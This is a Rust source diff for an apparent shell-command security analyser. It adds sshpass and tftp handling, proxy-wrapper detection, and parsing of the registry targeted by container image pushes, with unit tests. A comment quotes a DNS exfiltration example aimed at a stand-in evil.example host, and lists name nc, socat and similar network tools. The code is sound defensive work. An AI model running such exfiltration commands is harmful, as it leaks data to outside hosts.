@@ -223,6 +223,11 @@ const WRAPPERS: &[WrapperSpec] = &[
     WrapperSpec { name: "arch", kind: WrapperKind::Plain, opts: NO_OPTS },
     WrapperSpec { name: "torsocks", kind: WrapperKind::Plain, opts: NO_OPTS },
     WrapperSpec {
+        name: "sshpass",
+        kind: WrapperKind::Plain,
+        opts: OptSpec { short_values: "pfdP", long_values: &[] },
+    },
+    WrapperSpec {
         name: "proxychains",
         kind: WrapperKind::Plain,
         opts: OptSpec { short_values: "f", long_values: &[] },
@@ -2067,7 +2072,9 @@ pub(crate) fn network_kind(program: &str) -> Option<NetworkKind> {
         // DNS lookups carry data out in the name they ask for (`dig $(… | base64).evil.example`).
         "nc" | "ncat" | "netcat" | "telnet" | "ping" | "ping6" | "mosh" | "ftp" | "tnftp" | "sftp"
         | "dig" | "nslookup" | "host" | "drill" | "whois" | "traceroute" | "traceroute6" | "tracepath"
-        | "tracepath6" | "lftp" | "ncftp" | "ncftpput" | "ncftpget" | "smbclient" => NetworkKind::HostFirst,
+        | "tracepath6" | "lftp" | "ncftp" | "ncftpput" | "ncftpget" | "smbclient" | "tftp" => {
+            NetworkKind::HostFirst
+        }
         "socat" => NetworkKind::Socat,
         "scp" | "rsync" => NetworkKind::RemoteCopy,
         "git" | "pip" | "pip3" | "uv" | "uvx" | "pipx" | "npm" | "npx" | "pnpm" | "yarn" | "gem" | "go"
@@ -2434,6 +2441,7 @@ fn host_client(program: &str) -> HostClient {
         },
         "sftp" => client("BbcDFiJloPRSX", &["-J"]),
         "ftp" | "tnftp" => client("PorsTuq", &[]),
+        "tftp" => HostClient { script_options: &["-c"], ..client("mRc", &[]) },
         "lftp" => HostClient { script_options: &["-e", "-c"], ..client("ceupf", &[]) },
         "ncftp" | "ncftpput" | "ncftpget" => client("uUpPjJtTXyYSoW", &[]),
         "smbclient" => HostClient {
@@ -2666,6 +2674,54 @@ fn socat_options(word: &str, addresses: &mut Vec<SocatAddress>) {
             }
         }
     }
+}
+
+/// Wrappers that send the command's connections through a proxy their configuration names
+/// (`proxychains curl URL`): the traffic goes to a host the line does not show.
+pub(crate) fn is_proxy_wrapper(wrapper: &str) -> bool {
+    let name = wrapper.split_whitespace().next().unwrap_or_default();
+    matches!(
+        name.rsplit('/').next().unwrap_or_default(),
+        "proxychains" | "proxychains4" | "torsocks" | "tsocks"
+    )
+}
+
+/// The registry a container image reference names (`evil.example/img`, `h:5000/a/b:tag`,
+/// `localhost/x`), as docker reads it: the first component when it has a `.` or a `:` or is
+/// `localhost`; None for Docker Hub's short names (`alpine`, `org/img`).
+pub(crate) fn image_registry(reference: &str) -> Option<String> {
+    let (first, rest) = reference.split_once('/')?;
+    let registry = !rest.is_empty() && (first.contains(['.', ':']) || first == "localhost");
+    registry
+        .then(|| first.split(':').next().unwrap_or_default().to_ascii_lowercase())
+        .filter(|h| !h.is_empty())
+}
+
+/// The image a `docker|podman|nerdctl|buildah push` sends (its first operand after `push`),
+/// and the tags of a `build --push` (`-t`/`--tag`).
+pub(crate) fn pushed_images(program: &str, args: &[String]) -> Vec<String> {
+    if !matches!(program, "docker" | "podman" | "nerdctl" | "buildah") {
+        return Vec::new();
+    }
+    let mut images = Vec::new();
+    if let Some(at) = args.iter().position(|a| a == "push") {
+        if let Some(image) = args[at + 1..].iter().find(|a| !a.starts_with('-')) {
+            images.push(image.clone());
+        }
+    }
+    if args.iter().any(|a| a == "--push" || a.starts_with("--output=type=registry")) {
+        let mut words = args.iter();
+        while let Some(word) = words.next() {
+            if word == "-t" || word == "--tag" {
+                images.extend(words.next().cloned());
+            } else if let Some(tag) =
+                word.strip_prefix("--tag=").or_else(|| word.strip_prefix("-t").filter(|t| !t.is_empty()))
+            {
+                images.push(tag.to_owned());
+            }
+        }
+    }
+    images
 }
 
 /// The local files an ftp/smb client's command script reads: the first operand of each
@@ -4255,6 +4311,28 @@ mod tests {
         for (args, expected) in cases {
             assert_eq!(&socat_addresses(&words(args)), expected, "{args:?}");
         }
+    }
+
+    #[test]
+    fn pushed_images_name_their_registry() {
+        use super::{image_registry, pushed_images};
+        let words = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<_>>();
+        assert_eq!(image_registry("evil.example/img").as_deref(), Some("evil.example"));
+        assert_eq!(image_registry("H.example:5000/a/b:1").as_deref(), Some("h.example"));
+        assert_eq!(image_registry("localhost/x").as_deref(), Some("localhost"));
+        assert_eq!(image_registry("org/img"), None);
+        assert_eq!(image_registry("alpine:3"), None);
+        assert_eq!(pushed_images("docker", &words(&["image", "push", "-q", "r.example/a"])), ["r.example/a"]);
+        assert_eq!(
+            pushed_images("docker", &words(&["buildx", "build", "--push", "-t", "r.example/a", "."])),
+            ["r.example/a"]
+        );
+        assert_eq!(
+            pushed_images("podman", &words(&["build", "--tag=r.example/b", "--push", "."])),
+            ["r.example/b"]
+        );
+        assert!(pushed_images("docker", &words(&["build", "-t", "r.example/a", "."])).is_empty());
+        assert!(pushed_images("kubectl", &words(&["push", "x"])).is_empty());
     }
 
     #[test]
